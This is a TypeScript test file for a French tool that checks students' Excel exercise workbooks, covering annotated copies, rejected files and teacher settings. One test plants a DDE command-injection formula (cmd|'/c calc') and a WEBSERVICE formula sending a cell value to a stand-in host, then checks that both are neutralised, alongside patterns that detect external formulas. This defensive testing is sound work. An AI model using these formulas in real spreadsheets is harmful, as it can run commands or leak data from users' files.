    expect(suivi.getRow(3).height).toBeGreaterThanOrEqual(2 * 12.75); // « Exactitude des éléments retenus pour la préparation des bulletins de paie »: two lines
    const brut = v.rapport.controles.find((c) => c.nom === 'PAIE_BRUT')!;
    expect(lignes[0]![6]).toBeCloseTo(v.rapport.competences[0]!.taux!, 6);
    const [feuille, adresse] = brut.cellule!.split('!');
    expect((wb.getWorksheet(feuille!)!.getCell(adresse!).fill as ExcelJS.FillPattern).fgColor?.argb).toBe('FFFFC7CE');
  }, 300_000);
});

describe('copie annotée sans risque à ouvrir', () => {
  test('une formule qui sort du classeur (WEBSERVICE, lien DDE, autre classeur) devient sa valeur dans la copie annotée, avec une note et une ligne de « Résultats » ; une formule ordinaire reste', async () => {
    const { f, attendus } = await exercice('stocks', { aleas: ['alerte'] });
    const rempli = await remplir(f, attendus);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(rempli);
    const ws = wb.getWorksheet('Travail')!;
    // three cells of the copy: the answer STK_Stock_Alerte calls a web service; two cells below the work, a DDE link and another workbook
    const [alerte] = cellulesDuNom(wb, 'STK_Stock_Alerte');
    const valeur = attendus.STK_Stock_Alerte as number;
    alerte!.feuille.getCell(alerte!.adresse).value = { formula: `WEBSERVICE("http://exemple.invalid/?n="&${alerte!.adresse})`, result: valeur };
    ws.getCell('K40').value = { formula: "cmd|'/c calc'!A0", result: 0 };
    ws.getCell('K41').value = { formula: "'C:\\Eleves\\[notes.xlsx]Feuil1'!A1", result: 'x' };
    ws.getCell('K42').value = { formula: 'SUM(1,2)', result: 3 };
    const piegee = fichier('piegee.xlsx');
    await wb.xlsx.writeFile(piegee);
    const v = await verifierCopie(piegee, { date: DATE });
    // the value the student's cell last had is what is checked
    expect(v.rapport.controles.find((c) => c.nom === 'STK_Stock_Alerte')!.statut).toBe('juste');
    const annotee = fichier('piegee-annotee.xlsx');
    await ecrireCopieAnnotee(v, annotee);
    const lu = new ExcelJS.Workbook();
    await lu.xlsx.readFile(annotee);
    const t = lu.getWorksheet('Travail')!;
    const cellule = t.getCell(alerte!.adresse);
    expect([cellule.value, cellule.formula, String(cellule.note)]).toEqual([valeur, undefined, expect.stringContaining('Formule externe (WEBSERVICE) remplacée par sa dernière valeur')]);
    expect([t.getCell('K40').value, t.getCell('K41').value]).toEqual([0, 'x']);
    expect(t.getCell('K42').formula).toBe('SUM(1,2)');
    const textes: string[] = [];
    lu.getWorksheet('Résultats')!.eachRow((r) => r.eachCell((c) => void textes.push(String(c.value))));
    expect(textes.slice(-4)).toEqual([
      'Formules externes : remplacées par leur valeur dans cette copie',
      `Feuille « Travail », cellule ${alerte!.adresse} : WEBSERVICE.`,
      'Feuille « Travail », cellule K40 : lien DDE.',
      'Feuille « Travail », cellule K41 : référence à un autre classeur.',
    ]);
    // nothing of the kind in a text: « ="WEBSERVICE(" » is no call
    expect([formuleExterne('="WEBSERVICE(" & A1'), formuleExterne('=SOMME(Tableau1[Montant])'), formuleExterne('=HYPERLINK("#Travail!A1";"aller")')]).toEqual([null, null, null]);
    expect([
      formuleExterne('=_xlfn.WEBSERVICE("http://x")'),
      formuleExterne('=FILTERXML(A1,"http://x")'),
      formuleExterne('=HYPERLINK("https://x.fr","clic")'),
      formuleExterne('=[1]Feuil1!A1'),
    ]).toEqual(['WEBSERVICE', 'FILTERXML avec une adresse', 'HYPERLINK vers une adresse extérieure', 'référence à un autre classeur']);
  });
});

describe('fichiers refusés', () => {
  test('un lot avec un bon fichier et sept mauvais : un message en français par fichier, code 1, le bon est vérifié', async () => {
    const { f } = await exercice('tresorerie');
    const texte = fichier('notes.xlsx');
    writeFileSync(texte, 'ceci n\u2019est pas un classeur');
    const chiffre = fichier('chiffre.xlsx');
    writeFileSync(chiffre, Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(4096)]));
    const macros = fichier('copie.xlsm');
    copyFileSync(f, macros);
    const gros = fichier('gros.xlsx');
    writeFileSync(gros, Buffer.from([0x50, 0x4b, 0x03, 0x04]));
    truncateSync(gros, 50 * 1024 * 1024);
    const corrompu = fichier('corrompu.xlsx');
    writeFileSync(corrompu, readFileSync(f).subarray(0, 3000));
    const autre = fichier('autre.xlsx');
    const wb = new ExcelJS.Workbook();
    wb.addWorksheet('Feuil1').getCell('A1').value = 'Budget du club';
    await wb.xlsx.writeFile(autre);
    const recent = fichier('recent.xlsx');
    const w2 = new ExcelJS.Workbook();
    await w2.xlsx.readFile(f);
    w2.getWorksheet('_agora')!.eachRow((r) => {
      if (r.getCell(1).value === 'version_modele') r.getCell(2).value = '2.0.0';
    });
    await w2.xlsx.writeFile(recent);
    const r = await lancer(['verifier', f, texte, chiffre, macros, gros, corrompu, autre, recent, '--json']);
    expect(r.code).toBe(1);
    const json = JSON.parse(r.out);
    expect(json.copies.map((c: { fichier: string }) => c.fichier)).toEqual([f]);
    const messages = Object.fromEntries(json.erreurs.map((e: { fichier: string; message: string }) => [path.basename(e.fichier).replace(/^\d+-/, ''), e.message]));
    expect(messages['notes.xlsx']).toMatch(/n'est pas un classeur Excel \(\.xlsx\)/);
    expect(messages['chiffre.xlsx']).toMatch(/mot de passe/);
    expect(messages['copie.xlsm']).toMatch(/macros \(\.xlsm\)/);
    expect(messages['gros.xlsx']).toMatch(/trop volumineux \(50,0 Mo/);
    expect(messages['corrompu.xlsx']).toMatch(/endommagé/);
    expect(messages['autre.xlsx']).toMatch(/n'est pas un exercice créé par AGOrA pour Excel/);
    expect(messages['recent.xlsx']).toMatch(/version plus récente.*2\.0\.0/);
    for (const e of json.erreurs) expect(e.message).toContain(e.fichier);
    expect(r.err.split('\n').filter(Boolean)).toHaveLength(7);
  });

  test('un dossier : ses sous-dossiers lus, « ~$ » et « ._ » écartés, deux copies du même nom annotées à part, celles de --out-dir jamais relues', async () => {
    const { f } = await exercice('tresorerie');
    const dossier = dossierTemporaire('agora-dossier-copies-');
    const sous = path.join(dossier, 'groupe B');
    mkdirSync(sous);
    copyFileSync(f, path.join(dossier, 'martin.xlsx'));
    copyFileSync(f, path.join(sous, 'martin.xlsx'));
    writeFileSync(path.join(dossier, '~$martin.xlsx'), 'verrou d\u2019Excel');
    writeFileSync(path.join(sous, '._martin.xlsx'), 'copie macOS');
    const annotees = path.join(dossier, 'annotees');
    mkdirSync(annotees);
    for (const passage of [1, 2]) {
      const r = await lancer(['verifier', dossier, '--out-dir', annotees, '--json']);
      expect([passage, r.code, r.err]).toEqual([passage, 0, '']);
      expect(JSON.parse(r.out).copies.map((c: { fichier: string }) => path.relative(dossier, c.fichier))).toEqual([path.join('groupe B', 'martin.xlsx'), 'martin.xlsx']);
    }
    expect(readdirSync(annotees).sort()).toEqual(['martin-verifie.xlsx', 'martin-verifie_2.xlsx']);
    const vide = dossierTemporaire('agora-dossier-vide-');
    expect(await lancer(['verifier', vide])).toMatchObject({ code: 2, err: expect.stringContaining(`Aucun classeur .xlsx dans « ${vide} »`) });
  });

  test('réglages de l\u2019enseignant à la création (sommatif, seuils 50 / 70 / 85) : lus dans _agora, sans couleur sur la copie', async () => {
    const f = fichier('sommatif.xlsx');
    const cree = await lancer(['exercice', 'tresorerie', '--graine', '4', '--periode', '2026-01', '--out', f, '--verification', 'sommatif', '--seuils', '50,70,85', '--montrer-attendus']);
    expect(cree.code).toBe(0);
    expect((await lancer(['exercice', 'tresorerie', '--out', fichier('x.xlsx'), '--seuils', '70,50,85'])).err).toMatch(/--seuils attend trois pourcentages croissants/);
    const x = await ouvrirExercice(f);
    const a = x.spec.attendus(x.entree, x.parametres);
    const noms = reponsesDuCas(x.spec, x.entree, x.parametres, a).map((r) => r.nom);
    // about 80 % right: degree 3 with these thresholds (it would be 3 with the defaults too, 4 from 85 %)
    const valeurs = Object.fromEntries(noms.map((k, i) => [k, i < 2 ? (a[k] as number[]).map((v) => v + 1) : a[k]!])) as Attendus;
    const v = await verifierCopie(await remplir(f, valeurs), { date: DATE });
    expect([v.rapport.mode, v.rapport.montrerAttendus]).toEqual(['sommatif', true]);
    const t = v.rapport.competences[0]!.taux!;
    expect(v.rapport.competences[0]!.niveau!.code).toBe(t >= 0.85 ? 4 : t >= 0.7 ? 3 : t >= 0.5 ? 2 : 1);
    const annotee = fichier('sommatif-annotee.xlsx');
    await ecrireCopieAnnotee(v, annotee);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(annotee);
    const textes: string[] = [];
    wb.getWorksheet('Résultats')!.eachRow((r) => r.eachCell((c) => void textes.push(String(c.value))));
    expect(textes.join('\n')).toContain('le détail des réponses n\u2019est pas communiqué');
    expect(textes.join('\n')).not.toContain('Détail des réponses');
    const faux = v.rapport.controles.find((c) => c.statut === 'faux')!;
    const [feuille, adresse] = faux.cellule!.split('!');
    expect((wb.getWorksheet(feuille!)!.getCell(adresse!).fill as ExcelJS.FillPattern | undefined)?.fgColor?.argb).not.toBe('FFFFC7CE');
  });

  test('réglages saisis (ligne de commande et volet) : pourcentages à la virgule, refus en français, phrase de « Paramètres »', () => {
    expect(reglagesSaisis({ mode: 'sommatif', montrerAttendus: true, seuils: [' 50 ', '62,5', '85.5'] })).toEqual({
      mode: 'sommatif',
      montrerAttendus: true,
      seuils: [0.5, 0.625, 0.855],
      tableur: false,
    });
    expect(reglagesSaisis({ montrerAttendus: false })).toEqual({ mode: 'formatif', montrerAttendus: false, seuils: [0.4, 0.65, 0.9], tableur: false });
    expect(reglagesSaisis({ montrerAttendus: false, tableur: true }).tableur).toBe(true);
    for (const seuils of [
      ['70', '50', '85'],
      ['40', '65'],
      ['0', '65', '90'],
      ['40', '65', '100'],
      ['40', 'soixante', '90'],
      ['40', '', '90'],
      ['-10', '65', '90'],
    ])
      expect(() => reglagesSaisis({ montrerAttendus: false, seuils })).toThrow(`trois pourcentages croissants entre 0 et 100 (exclus), par exemple 40, 65, 90 : « ${seuils.join(' ; ')} »`);
    expect(() => reglagesSaisis({ mode: 'noté', montrerAttendus: false })).toThrow('formatif ou sommatif : « noté »');
    expect(reglagesEnClair({ mode: 'sommatif', montrerAttendus: false, seuils: [0.5, 0.625, 0.85], tableur: false }, degresDuLivret())).toBe(
      'vérification sommative, valeurs attendues non montrées à l\u2019élève, degré 2 à partir de 50 %, degré 3 à partir de 62,5 %, degré 4 à partir de 85 % de réponses justes',
    );
  });

  test('JSON d\u2019une copie : les champs du contrat', async () => {
    const { f } = await exercice('tva', { aleas: ['encaissement'] });
    const r = await lancer(['verifier', f, '--json', '--mode', 'sommatif']);
    expect(r.code).toBe(0);
    const j = JSON.parse(r.out);
    expect(Object.keys(j)).toEqual(expect.arrayContaining(['fichier', 'eleve', 'modele', 'enonceModifie', 'controles', 'competences']));
    // a blank copy: « vierge », not scored
    expect(j).toMatchObject({ fichier: f, eleve: 'MARTIN Léa', modele: 'exercice-tva-ca3', enonceModifie: false, vierge: true, mode: 'sommatif' });
    expect(Object.keys(j.controles[0])).toEqual(expect.arrayContaining(['nom', 'attendu', 'saisi', 'statut', 'diagnostic', 'competence', 'critere']));
    expect(j.competences).toEqual([expect.objectContaining({ code: '2.2.4', taux: null, niveau: null })]);
    expect((await lancer(['verifier', f, '--mode', 'noté'])).code).toBe(2);
  });
});
